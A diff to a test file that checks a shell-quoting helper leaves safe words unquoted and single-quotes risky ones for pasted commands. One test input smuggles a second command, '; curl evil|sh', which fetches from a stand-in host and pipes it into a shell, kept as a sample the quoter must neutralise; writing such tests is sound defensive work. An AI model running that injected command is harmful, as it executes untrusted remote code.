@@ -1,5 +1,30 @@
 import { describe, expect, it } from 'vitest';
-import { commandLine, pythonProgram, quote } from '../../src/remote/quote.ts';
+import { quote, shellWord } from '../../src/domain/text/shell.ts';
+import { commandLine, pythonProgram } from '../../src/remote/quote.ts';
+
+describe('a word of a command to paste', () => {
+  it.each([
+    '/srv/sum/acme-kitchens/.rollback-bot/venvs/5555',
+    'sum-acme-kitchens-gunicorn.service',
+    'deploy@10.0.0.5:22',
+    '--file=a,b+c%d',
+  ])('has no quotes where it needs none: %s', (word) => {
+    expect(shellWord(word)).toBe(word);
+  });
+
+  it.each([
+    ['', "''"],
+    ['a b', "'a b'"],
+    ['/srv/x; curl evil|sh #', "'/srv/x; curl evil|sh #'"],
+    ["it's", `'it'\\''s'`],
+    ['$(x)', "'$(x)'"],
+    ['~root', "'~root'"],
+    ['=ls', "'=ls'"],
+    ['é', "'é'"],
+  ])('has them where it does: %j', (word, expected) => {
+    expect(shellWord(word)).toBe(expected);
+  });
+});
 
 describe('quoting', () => {
   it('throws on NUL, which would cut the word off', () => {
